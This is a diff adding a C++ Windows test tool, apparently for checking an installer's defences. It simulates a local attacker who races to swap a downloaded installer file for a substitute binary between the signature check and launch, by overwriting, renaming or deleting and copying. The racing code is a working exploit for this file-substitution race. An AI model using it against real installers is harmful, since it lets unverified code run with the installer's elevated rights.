@@ -1,0 +1,137 @@
+// Plays a local attacker who wants an unverified program run with the
+// installer's rights: once TARGET has reached SIZE bytes (the download is
+// complete), it tries for DURATION ms, as fast as it can, to put EVIL in
+// TARGET's place (overwrite in place, replace by rename, delete and copy).
+//
+//   swapper TARGET EVIL SIZE DURATION_MS [after-lock]
+//
+// With after-lock it first waits, changing nothing, until opening TARGET
+// for writing fails with a sharing violation (the installer holds it), and
+// only then attacks: the window between the signature check and the start.
+//
+// Prints "attempts N replaced M sharing-violations K".
+#include <windows.h>
+
+#include <cstdio>
+#include <cstdlib>
+#include <string>
+#include <vector>
+
+namespace {
+
+std::vector<char> ReadAll(const char* path)
+{
+    std::vector<char> data;
+    if (std::FILE* file = std::fopen(path, "rb")) {
+        char chunk[65536];
+        size_t read;
+        while ((read = std::fread(chunk, 1, sizeof(chunk), file)) > 0)
+            data.insert(data.end(), chunk, chunk + read);
+        std::fclose(file);
+    }
+    return data;
+}
+
+bool Overwrite(const char* target, const std::vector<char>& evil, DWORD& error)
+{
+    HANDLE file = CreateFileA(target, GENERIC_WRITE, FILE_SHARE_READ | FILE_SHARE_WRITE | FILE_SHARE_DELETE, nullptr,
+                              OPEN_EXISTING, 0, nullptr);
+    if (file == INVALID_HANDLE_VALUE) {
+        error = GetLastError();
+        return false;
+    }
+    DWORD written = 0;
+    const bool ok = WriteFile(file, evil.data(), static_cast<DWORD>(evil.size()), &written, nullptr) &&
+                    SetEndOfFile(file);
+    error = ok ? 0 : GetLastError();
+    CloseHandle(file);
+    return ok;
+}
+
+bool ReplaceByRename(const char* target, const std::string& staged, const char* evil, DWORD& error)
+{
+    CopyFileA(evil, staged.c_str(), FALSE);
+    if (MoveFileExA(staged.c_str(), target, MOVEFILE_REPLACE_EXISTING))
+        return true;
+    error = GetLastError();
+    return false;
+}
+
+bool DeleteAndCopy(const char* target, const char* evil, DWORD& error)
+{
+    if (!DeleteFileA(target)) {
+        error = GetLastError();
+        return false;
+    }
+    return CopyFileA(evil, target, TRUE) != FALSE;
+}
+
+}  // namespace
+
+int main(int argc, char** argv)
+{
+    if (argc != 5 && !(argc == 6 && std::string(argv[5]) == "after-lock")) {
+        std::fprintf(stderr, "usage: swapper TARGET EVIL SIZE DURATION_MS [after-lock]\n");
+        return 2;
+    }
+    const char* target = argv[1];
+    const char* evil = argv[2];
+    const unsigned long size = std::strtoul(argv[3], nullptr, 10);
+    const DWORD duration = std::strtoul(argv[4], nullptr, 10);
+    const std::vector<char> evilBytes = ReadAll(evil);
+    const std::string staged = std::string(target) + ".staged";
+
+    const DWORD waitStart = GetTickCount();
+    for (;;) {
+        WIN32_FILE_ATTRIBUTE_DATA data;
+        if (GetFileAttributesExA(target, GetFileExInfoStandard, &data) && data.nFileSizeLow == size)
+            break;
+        if (GetTickCount() - waitStart > 120000) {
+            std::printf("target never complete\n");
+            return 1;
+        }
+        Sleep(0);
+    }
+
+    if (argc == 6) {
+        for (;;) {
+            HANDLE probe = CreateFileA(target, GENERIC_WRITE, FILE_SHARE_READ | FILE_SHARE_WRITE | FILE_SHARE_DELETE,
+                                       nullptr, OPEN_EXISTING, 0, nullptr);
+            if (probe != INVALID_HANDLE_VALUE)
+                CloseHandle(probe);
+            else if (GetLastError() == ERROR_SHARING_VIOLATION)
+                break;
+            if (GetTickCount() - waitStart > 120000) {
+                std::printf("never locked\n");
+                return 1;
+            }
+        }
+        std::printf("locked ");
+    }
+
+    unsigned long attempts = 0, replaced = 0, sharingViolations = 0;
+    const DWORD start = GetTickCount();
+    while (GetTickCount() - start < duration) {
+        DWORD error = 0;
+        bool ok = false;
+        switch (attempts % 3) {
+        case 0:
+            ok = Overwrite(target, evilBytes, error);
+            break;
+        case 1:
+            ok = ReplaceByRename(target, staged, evil, error);
+            break;
+        default:
+            ok = DeleteAndCopy(target, evil, error);
+            break;
+        }
+        ++attempts;
+        if (ok)
+            ++replaced;
+        else if (error == ERROR_SHARING_VIOLATION || error == ERROR_ACCESS_DENIED)
+            ++sharingViolations;
+    }
+    DeleteFileA(staged.c_str());
+    std::printf("attempts %lu replaced %lu sharing-violations %lu\n", attempts, replaced, sharingViolations);
+    return 0;
+}
